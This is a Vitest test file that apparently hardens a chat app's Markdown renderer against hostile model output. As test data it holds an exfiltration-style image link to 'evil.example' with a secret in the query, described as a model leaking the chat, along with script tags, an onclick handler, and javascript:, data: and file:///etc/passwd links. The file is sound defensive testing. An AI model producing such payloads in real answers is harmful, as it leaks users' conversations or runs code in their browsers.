import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown, type MarkdownTexts } from '../../../src/renderer/ui/markdown.tsx';

const texts: MarkdownTexts = {
  copyCode: { copy: 'Copy code', copied: 'Copied', failed: 'Failed' },
  code: 'code',
  image: 'Image',
  table: 'Table',
};
const render = (text: string, streaming = false): string =>
  renderToStaticMarkup(<Markdown text={text} streaming={streaming} texts={texts} />);

describe('Markdown', () => {
  it('never makes an element that fetches (bug: a model leaks the chat through an image address)', () => {
    const html = render(
      '![cat](https://evil.example/?q=secret)\n\n<img src="https://evil.example/x">\n\n![x](data:image/png;base64,AA)',
    );
    expect(html).not.toMatch(/<(img|iframe|script|link|style|object|video|audio|source)/i);
    expect(html).toContain('Image: cat');
  });

  it('shows raw HTML as text (bug: markup of the model runs in the page)', () => {
    const html = render('<script>alert(1)</script>\n\nHello <b onclick="x()">you</b>');
    expect(html).toContain('&lt;script&gt;');
    expect(html).not.toMatch(/<script|<b /);
  });

  it('links only to web and mail, in a new tab without a trace (bug: javascript: or file: links, the app replaced by a page)', () => {
    const bad = [
      'javascript:alert(1)',
      'JaVaScRiPt:x',
      'data:text/html,x',
      'file:///etc/passwd',
      '/ui/session',
      '#t=x',
      'vbscript:x',
    ];
    for (const href of bad) expect(render(`[x](${href})`), href).not.toContain('<a');
    for (const href of ['https://example.org/a?b=c', 'http://example.org', 'mailto:a@example.org']) {
      expect(render(`[x](${href})`)).toContain(`<a href="${href}" target="_blank" rel="noopener noreferrer">`);
    }
  });

  it('labels code with its language, colours it and offers Copy (bug: code as plain text)', () => {
    const html = render('```cpp\nwhile (true) {}\n```');
    expect(html).toMatch(/<span>cpp<\/span>.*Copy code.*hljs-keyword/s);
    expect(render('```\nx\n```')).toContain('<span>code</span>');
    expect(render('```no-such-language\nx\n```')).toContain('no-such-language');
  });

  it('looks the same at the end of streaming as after it (bug: the answer jumps when it ends)', () => {
    const text = 'One\n\n- a\n- b\n\n```js\nlet x = 1;\n```\n\n| a |\n| - |\n| 1 |\n';
    expect(render(text, true)).toBe(render(text, false));
  });

  it('resolves references once the text is complete (bug: [a] stays in brackets)', () => {
    expect(render('See [a].\n\nMore.\n\n[a]: https://example.org/x\n')).toContain('href="https://example.org/x"');
  });
});
